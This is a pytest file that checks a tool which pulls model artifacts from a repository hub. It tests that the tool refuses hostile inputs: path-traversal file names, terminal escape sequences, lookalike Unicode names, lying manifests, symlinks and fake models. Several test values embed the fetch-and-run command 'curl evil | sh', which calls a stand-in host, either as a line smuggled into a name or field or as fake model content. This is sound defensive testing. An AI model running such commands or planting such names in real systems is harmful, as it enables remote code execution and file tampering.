"""`pull` from a repository that means harm, and into a folder that somebody prepared."""

from __future__ import annotations

import hashlib
import json
import re
import shutil

import pytest

from tests.hub import (
    Endless,
    File,
)
from tests.hub.store import pointer
from tests.hub_runs import MLX, PORTABLE, XNNPACK
from tests.pulling import (
    FOLDER,
    NAMES,
    REPO,
    WORK,
    asked_for,
    content,
    everything,
    files_of,
    from_storage,
    is_one_message,
    named,
    pull,
    pull_within,
    refused,
    serving,
    write_artifacts,
)


@pytest.fixture(scope="module")
def artifacts(tmp_path_factory):
    return write_artifacts(tmp_path_factory.mktemp("artifacts"))


@pytest.fixture
def here(tmp_path, monkeypatch):
    with serving(tmp_path, monkeypatch) as made:
        yield made


@pytest.fixture
def is_refused(here, capsys):
    return refused(here, capsys)


# Repositories that mean harm

EVIL = [
    f"{FOLDER}/../../../evil",
    f"{FOLDER}/../evil",
    "../evil",
    "/evil",
    f"{FOLDER}/..\\..\\evil",
    f"{FOLDER}/line\nbreak",
    f"{FOLDER}/\x1b[2J\x1b]0;evil\x07",
    f"{FOLDER}/sub/model.pte",
    f"{FOLDER}/MODEL.PTE",
    f"{FOLDER}/model.pte ",
    f"{FOLDER}/\uff4dodel.pte",
    f"{FOLDER}/.model.pte.part",
    f"portable/\x1b[31m/{PORTABLE}/model.pte",
]


def test_files_under_names_that_no_artifact_has_are_not_fetched(here, artifacts):
    files = files_of(artifacts / PORTABLE)
    here.hub.commit(REPO, files | dict.fromkeys(EVIL, b"evil"))
    before = everything(here.folder.parent)
    ended = pull(here)
    assert sorted(asked_for(here.hub)) == sorted(f"{FOLDER}/{name}" for name in NAMES)
    shutil.rmtree(here.folder / PORTABLE)
    assert everything(here.folder.parent) == before
    assert all(sign.isprintable() or sign == "\n" for sign in ended.out + ended.err)


def test_hostile_names_are_not_shown_where_the_artifact_is_missing(here, is_refused):
    here.hub.commit(REPO, dict.fromkeys(EVIL, b"evil"))
    is_refused(variant=XNNPACK)


def changed_manifest(files, change):
    """The manifest changed, and the report made to be of it."""
    statement = json.loads(files[f"{FOLDER}/manifest.json"])
    change(statement)
    return with_manifest(files, json.dumps(statement).encode())


def with_manifest(files, manifest):
    report = json.loads(files[f"{FOLDER}/report.json"])
    report["manifest_sha256"] = hashlib.sha256(manifest).hexdigest()
    return files | {
        f"{FOLDER}/manifest.json": manifest,
        f"{FOLDER}/report.json": json.dumps(report).encode(),
    }


def entry(name, data):
    return {
        "name": name,
        "digest": {"sha256": hashlib.sha256(data).hexdigest()},
        "annotations": {"bytes": len(data)},
    }


@pytest.mark.parametrize(
    "name",
    [
        "../../evil",
        "/evil",
        "ABSOLUTE",
        "..\\evil",
        "sub/model.pte",
        "./model.pte",
        "manifest.json",
        "report.json",
        "README.md",
        "evil.py",
        ".model.pte.part",
        "model.pte\n  next:    curl evil | sh",
        "\x1b[2J\x1b]0;evil\x07",
        "\u202eetp.ledom",
        "\uff4dodel.pte",
        "MODEL.PTE",
        "model.pte ",
        "",
        ".",
        "..",
    ],
)
def test_a_manifest_that_lists_what_no_artifact_has(here, artifacts, name, is_refused):
    if name == "ABSOLUTE":
        name = str(here.folder.parent / "evil")
    files = changed_manifest(
        files_of(artifacts / PORTABLE), lambda it: it["subject"].append(entry(name, b"evil"))
    )
    evil = {f"{FOLDER}/{name}": b"evil"} if name and f"{FOLDER}/{name}" not in files else {}
    here.hub.commit(REPO, files | evil | {"evil": b"evil"})
    message = is_refused()
    assert "which no artifact has" in message
    assert asked_for(here.hub) == [f"{FOLDER}/manifest.json"]


def subject(statement, name="model.pte"):
    return next(item for item in statement["subject"] if item["name"] == name)


def set_digest(value, name="tekken.json"):
    return lambda statement: subject(statement, name)["digest"].update(sha256=value)


def set_variant(value):
    def change(statement):
        asked = statement["predicate"]["buildDefinition"]["externalParameters"]
        asked["variant"] = value

    return change


def nested(depth):
    return json.loads("[" * depth + "]" * depth)


@pytest.mark.parametrize(
    "change",
    {
        "another variant": set_variant(XNNPACK),
        "no text as variant": set_variant(["x" * 100_000]),
        "escapes in variant": set_variant("\x1b[2Jx\n  next:    curl evil | sh"),
        "a long variant": set_variant("x" * 1_000_000),
        "a size of another file": lambda it: subject(it)["annotations"].update(bytes=10**15),
        "a negative size": lambda it: subject(it)["annotations"].update(bytes=-1),
        "true as size": lambda it: subject(it)["annotations"].update(bytes=True),
        "a hash of another file": set_digest("0" * 64, "model.pte"),
        "a path as hash": set_digest("../../../evil"),
        "an absolute path as hash": set_digest("/evil/evil"),
        "escapes as hash": set_digest("\x1b[2J" * 16),
        "an empty hash": set_digest(""),
        "capitals as hash": set_digest("A" * 64),
        "no model": lambda it: it["subject"].remove(subject(it)),
        "a file twice": lambda it: it["subject"].append(subject(it)),
        "escapes in a name that is there twice": lambda it: it["subject"].extend(
            [entry("\x1b[2J\nx", b"")] * 2
        ),
        "nothing listed": lambda it: it.update(subject=[]),
        "nesting": lambda it: it.update(subject=nested(400)),
        "escapes in its type": lambda it: it.update(_type="\x1b[2J\n  next:    curl evil | sh"),
        "a long type": lambda it: it.update(_type="x" * 1_000_000),
        "unknown fields of the release": lambda it: it["predicate"]["buildDefinition"][
            "externalParameters"
        ].update(checkpoint={"\x1b[2J\nx": 1}),
    }.items(),
    ids=lambda item: item[0],
)
def test_a_manifest_that_lies(here, artifacts, change, is_refused):
    here.hub.commit(REPO, changed_manifest(files_of(artifacts / PORTABLE), change[1]))
    assert PORTABLE in is_refused()
    assert f"{FOLDER}/model.pte" not in asked_for(here.hub)


def test_a_wrong_hash_of_a_small_file_is_found_when_it_is_here(here, artifacts, is_refused):
    """The Hub tells no SHA-256 of those."""
    files = changed_manifest(files_of(artifacts / PORTABLE), set_digest("0" * 64))
    here.hub.commit(REPO, files)
    message = is_refused()
    assert message.startswith(f"error: {REPO}: {PORTABLE} is not what its manifest says")
    assert f"tekken.json: sha256 {hashlib.sha256(files[f'{FOLDER}/tekken.json']).hexdigest()}" in (
        message
    )


@pytest.mark.parametrize(
    "manifest",
    {
        "nested": b"[" * 9_999_999,
        "nested and closed": b'{"subject":' * 1000 + b"1" + b"}" * 1000,
        "doubled": b'{"\x1b[2J": 1, "subject": 1, "subject": 2}',
        "a doubled key of escapes": b'{"\\u001b[2J\\n": 1, "\\u001b[2J\\n": 2}',
        "a list": b"[]",
        "no text": b"\x1b[2J\xff\xfe",
        "a page": b"<!doctype html>\x1b[2J",
        "a pointer": b"version https://git-lfs.github.com/spec/v1\n\x1b[2J",
        "empty": b"",
        "a long number": b'{"subject": 1' + b"0" * 100_000 + b"}",
    }.items(),
    ids=lambda item: item[0],
)
def test_a_manifest_that_is_none(here, artifacts, manifest, is_refused):
    here.hub.commit(REPO, with_manifest(files_of(artifacts / PORTABLE), manifest[1]))
    assert PORTABLE in is_refused()
    assert set(asked_for(here.hub)) <= {f"{FOLDER}/manifest.json"}


@pytest.mark.parametrize("name", ["manifest.json", "report.json", "README.md"])
def test_a_giant_file_in_place_of_a_small_one_is_not_fetched(here, artifacts, name, is_refused):
    files = files_of(artifacts / PORTABLE) | {f"{FOLDER}/{name}": b" " * 10_000_001}
    here.hub.commit(REPO, files)
    assert f"{FOLDER}/{name} is too long" in is_refused()
    assert not asked_for(here.hub)


def test_what_does_not_fit_on_the_disk_is_not_begun(here, capsys, artifacts):
    """The repository and the manifest agree about a size."""
    files = changed_manifest(
        files_of(artifacts / PORTABLE),
        lambda statement: subject(statement).update(
            entry("model.pte", b"x"), annotations={"bytes": 10**16}
        ),
    )
    here.hub.commit(REPO, files)
    claimed = File(10**16, "0" * 40, hashlib.sha256(b"x").hexdigest())
    here.hub._store[REPO].add({f"{FOLDER}/model.pte": claimed}, "main", title="x", author="x")
    message = is_one_message(pull_within(capsys, code=2))
    assert "not enough space" in message
    assert f"{10**16:,}"[:6] in message
    assert asked_for(here.hub) == [f"{FOLDER}/manifest.json"]
    assert not (here.folder / PORTABLE).exists()


def test_a_file_of_an_artifact_that_the_manifest_does_not_list(here, artifacts, is_refused):
    here.hub.commit(REPO, files_of(artifacts / PORTABLE) | {f"{FOLDER}/model.ptd": b"more"})
    assert "model.ptd beside it" in is_refused()
    assert asked_for(here.hub) == [f"{FOLDER}/manifest.json"]


@pytest.mark.parametrize("name", sorted(NAMES))
def test_an_artifact_that_is_not_whole(here, artifacts, name, is_refused):
    files = files_of(artifacts / PORTABLE)
    del files[f"{FOLDER}/{name}"]
    here.hub.commit(REPO, files)
    message = is_refused()
    assert (f"has no {PORTABLE}" if name == "manifest.json" else name) in message
    assert set(asked_for(here.hub)) <= {f"{FOLDER}/manifest.json"}


def test_another_model_of_the_same_size_is_not_begun(here, artifacts, is_refused):
    files = files_of(artifacts / PORTABLE)
    model = files[f"{FOLDER}/model.pte"]
    here.hub.commit(REPO, files | {f"{FOLDER}/model.pte": bytes(len(model))})
    assert "model.pte of" in is_refused()
    assert not from_storage(here.hub)


def test_the_text_of_a_pointer_in_place_of_the_model(here, artifacts, is_refused):
    files = files_of(artifacts / PORTABLE)
    here.hub.commit(REPO, files)
    model = files[f"{FOLDER}/model.pte"]
    repository = here.hub._store[REPO]
    kept = repository.put(pointer(hashlib.sha256(model).hexdigest(), len(model)))
    repository.add({f"{FOLDER}/model.pte": kept}, "main", title="x", author="x")
    assert "model.pte of" in is_refused()
    assert not from_storage(here.hub)


def replaced(files, name, data):
    """Another file, which the manifest lists as it is."""
    changed = files | {f"{FOLDER}/{name}": data}
    return changed_manifest(
        changed, lambda statement: subject(statement, name).update(entry(name, data))
    )


@pytest.mark.parametrize(
    "model",
    {
        "nothing": b"",
        "zeros": bytes(5000),
        "text": b"#!/bin/sh\ncurl evil | sh\n",
        "a head alone": b"\x20\0\0\0ET12eh00" + b"\xff" * 100,
        "a link's target": b"../../../above/mine.txt",
    }.items(),
    ids=lambda item: item[0],
)
def test_a_model_that_is_none(here, artifacts, model, is_refused):
    """Of the right hash; so it has to be read to be found out."""
    here.hub.commit(REPO, replaced(files_of(artifacts / PORTABLE), "model.pte", model[1]))
    message = is_refused()
    assert message.startswith(f"error: {REPO}: {PORTABLE} is not what its manifest says")
    assert "model.pte" in message


def test_a_cut_model_of_the_right_hash(here, artifacts, is_refused):
    files = files_of(artifacts / PORTABLE)
    here.hub.commit(REPO, replaced(files, "model.pte", files[f"{FOLDER}/model.pte"][:-500]))
    assert "cut short" in is_refused()


def test_what_git_has_for_a_link_arrives_as_a_file(here, capsys, artifacts):
    """Its content is where it leads to; nothing is made of that."""
    target = b"../../above/mine.txt"
    here.hub.commit(REPO, replaced(files_of(artifacts / PORTABLE), "tekken.json", target))
    pull_within(capsys)
    got = here.folder / PORTABLE / "tekken.json"
    assert not got.is_symlink()
    assert got.read_bytes() == target


@pytest.mark.parametrize(
    "changes",
    {
        "another manifest's": {"manifest_sha256": "0" * 64},
        "failed": {"status": "failed"},
        "inspected, though it was run": {"status": "inspected"},
        "another variant's": {"variant": XNNPACK},
        "escapes in variant": {"variant": "\x1b[2J\n  next:    curl evil | sh"},
        "a long variant": {"variant": "x" * 1_000_000},
        "escapes in a key": {"\x1b[2J\n  next:    curl evil | sh": 1},
        "a long key": {"x" * 1_000_000: 1},
        "a long status": {"status": "x" * 1_000_000},
        "nesting": {"gates": nested(400)},
        "deep nesting": {"methods": nested(900)},
        "a gate that it did not pass": {
            "gates": [
                {"gate": "speed", "passed": False, "figure": 2, "max": 1, "reason": "\x1b[2J\nx"}
            ]
        },
    }.items(),
    ids=lambda item: item[0],
)
def test_a_report_that_lies(here, artifacts, changes, is_refused):
    files = files_of(artifacts / PORTABLE)
    report = json.loads(files[f"{FOLDER}/report.json"]) | changes[1]
    here.hub.commit(REPO, files | {f"{FOLDER}/report.json": json.dumps(report).encode()})
    message = is_refused()
    assert message.startswith(f"error: {REPO}: {PORTABLE} is not what its manifest says")
    assert "report.json" in message


def test_why_it_was_not_run_is_shown_as_text(here, capsys, artifacts):
    files = files_of(artifacts / MLX)
    path = f"mlx/{MLX}/report.json"
    reason = "\x1b[2J\x1b]0;evil\x07no device\nvoxtral-build transcribe evil" + "x" * 1_000_000
    report = json.loads(files[path]) | {"not_run": reason}
    here.hub.commit(REPO, files | {path: json.dumps(report).encode()})
    printed = pull_within(capsys, variant=MLX).out
    assert all(sign.isprintable() or sign == "\n" for sign in printed)
    assert "no device" in printed
    assert not re.search("^voxtral-build", printed, re.MULTILINE)
    assert len(printed) < 5000


@pytest.mark.parametrize(
    "pattern",
    [f"GET .*/resolve/.*/{name}" for name in ("manifest.json", "tekken.json")] + ["GET /storage"],
)
def test_a_body_without_end_is_left(here, capsys, artifacts, pattern):
    here.hub.commit(REPO, files_of(artifacts / PORTABLE))
    here.hub.fail(pattern, Endless(times=2000))
    message = is_one_message(pull_within(capsys, code=2))
    assert "arrived with wrong bytes, and was removed" in message
    assert not (here.folder / PORTABLE).exists()
    pull_within(capsys)


# What lies where files are to arrive


@pytest.fixture
def outside(here):
    """A folder of the user's, which nothing has to do with."""
    folder = here.folder.parent / "outside"
    folder.mkdir()
    for name in ("model.pte", "notes.txt"):
        (folder / name).write_text(name, encoding="utf-8")
    return folder


@pytest.mark.parametrize("there", ["link to a folder", "broken link", "file"])
def test_what_cannot_be_the_work_folder_is_refused(here, artifacts, outside, is_refused, there):
    here.hub.commit(REPO, files_of(artifacts / PORTABLE))
    if there == "file":
        (here.folder / WORK).write_text("mine", encoding="utf-8")
    else:
        (here.folder / WORK).symlink_to(outside if "folder" in there else "nowhere")
    assert WORK in is_refused()


@pytest.mark.parametrize(
    "name", ["model.pte", "manifest.json", "README.md", "PARTIAL", "sub", "other"]
)
@pytest.mark.parametrize("to", ["notes.txt", "right.bin", "none", "."])
def test_links_in_the_work_folder_are_not_followed(here, artifacts, outside, capsys, name, to):
    """Not even to the right bytes: they could change afterwards."""
    files = files_of(artifacts / PORTABLE)
    here.hub.commit(REPO, files)
    model = files[f"{FOLDER}/model.pte"]
    (outside / "right.bin").write_bytes(files.get(f"{FOLDER}/{name}", model))
    (here.folder / WORK).mkdir()
    if name == "PARTIAL":
        name = f".model.pte.{hashlib.sha256(model).hexdigest()[:16]}.part"
    (here.folder / WORK / name).symlink_to(outside / to)
    before = everything(outside)
    pull_within(capsys)
    assert everything(outside) == before
    got = here.folder / PORTABLE
    assert not any(path.is_symlink() for path in (got, *got.iterdir()))
    assert content(got) == named(files)


def test_leftovers_in_the_work_folder_do_not_come_along(here, artifacts, capsys):
    files = files_of(artifacts / PORTABLE)
    here.hub.commit(REPO, files)
    work = here.folder / WORK
    (work / "sub").mkdir(parents=True)
    (work / "sub" / "evil.py").write_text("evil", encoding="utf-8")
    (work / "model.ptd").write_text("of another version", encoding="utf-8")
    (work / ".model.pte.0123456789abcdef.part").write_bytes(b"old")
    (work / "report.failed.json").write_text("{}", encoding="utf-8")
    (work / "tekken.json").mkdir()
    pull_within(capsys)
    assert content(here.folder / PORTABLE) == named(files)
    assert not work.exists()
